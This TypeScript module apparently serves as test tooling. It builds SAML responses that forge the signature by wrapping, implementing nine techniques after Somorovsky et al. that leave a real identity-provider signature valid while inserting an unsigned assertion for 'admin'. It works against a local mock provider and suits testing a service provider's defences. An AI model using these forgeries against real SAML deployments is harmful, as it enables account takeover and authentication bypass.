import { sign, writeAssertion, writeResponse } from './identity-provider'

/** What a signature of the identity provider covers in a forgery. */
export type Signed = 'Assertion' | 'Response'

/** Parts of a response that was stolen, and what its thief would like to be read. */
interface Parts {
  /** The element that the identity provider signed, with its signature and without it. */
  original: string
  bare: string
  signature: string
  /** An element of the same kind that names somebody else. */
  evil: string
}

/** Wraps what was signed, so that the signature holds and something else may be read. `evil` and `original` are of the kind that is signed. */
type Wrapping = (parts: Parts) => { evil: string; beside?: string; inStatus?: string; inExtensions?: string }

/** The nine ways of wrapping (after Somorovsky et al., On Breaking SAML, 2012). */
export const wrappings: Readonly<Record<string, Wrapping>> = {
  'stands in front of the signed one': ({ evil, original }) => ({ evil, beside: original }),
  'holds the signed one': ({ evil, original }) => ({ evil: within(evil, original) }),
  'has its signature, the signed one stands beside': ({ evil, signature, bare }) => ({ evil: behindIssuer(evil, signature), beside: bare }),
  'has its signature, the signed one in it': ({ evil, signature, bare }) => ({ evil: behindIssuer(evil, within(signature, bare)) }),
  'has its signature, the signed one in an object of it': ({ evil, signature, bare }) => ({
    evil: behindIssuer(evil, within(signature, `<ds:Object>${bare}</ds:Object>`)),
  }),
  'has the signed one in the extensions': ({ evil, original }) => ({ evil, inExtensions: original }),
  'has the signed one in the status': ({ evil, original }) => ({ evil, inStatus: original }),
  'has the id and the signature of the signed one': ({ evil, signature, bare, original }) => ({
    evil: behindIssuer(evil.replace(idOf(evil), idOf(original)), signature),
    inExtensions: bare,
  }),
  'stands in the signature of the signed one': ({ evil, original }) => ({
    evil: original.replace('</ds:Signature>', `<ds:Object>${evil}</ds:Object></ds:Signature>`),
  }),
}

/** A forgery by one of the wrappings. */
export function forge(wrapping: Wrapping, signed: Signed): string {
  const xml = sign(writeResponse(writeAssertion()), signed)
  const evilAssertion = writeAssertion({ nameId: 'admin', assertionId: '_evil' })
  const original = signed === 'Response' ? xml : elementOf(xml, 'saml:Assertion')
  const signature = elementOf(xml, 'ds:Signature')
  const evil = signed === 'Response' ? writeResponse(evilAssertion).replace('"_response"', '"_evil-response"') : evilAssertion
  const forged = wrapping({ original, bare: original.replace(signature, ''), signature, evil })
  const body = signed === 'Response' ? forged.evil : writeResponse(`${forged.evil}${forged.beside ?? ''}`)
  const beside = signed === 'Response' && forged.beside !== undefined ? within(body, forged.beside) : body
  return beside
    .replace(
      '<samlp:Status>',
      `${forged.inExtensions === undefined ? '' : `<samlp:Extensions>${forged.inExtensions}</samlp:Extensions>`}<samlp:Status>`,
    )
    .replace(
      '</samlp:Status>',
      `${forged.inStatus === undefined ? '' : `<samlp:StatusDetail>${forged.inStatus}</samlp:StatusDetail>`}</samlp:Status>`,
    )
}

/** An element of a text, from its first tag to its last. */
export function elementOf(xml: string, name: string): string {
  const end = `</${name}>`
  return xml.slice(xml.indexOf(`<${name}`), xml.lastIndexOf(end) + end.length)
}

/** An element with something more at its end. */
function within(element: string, more: string): string {
  const at = element.lastIndexOf('</')
  return `${element.slice(0, at)}${more}${element.slice(at)}`
}

/** An element with something more behind its issuer, where a signature belongs. */
function behindIssuer(element: string, more: string): string {
  return element.replace('</saml:Issuer>', `</saml:Issuer>${more}`)
}

function idOf(element: string): string {
  return / ID="[^"]+"/.exec(element)?.[0] ?? ''
}
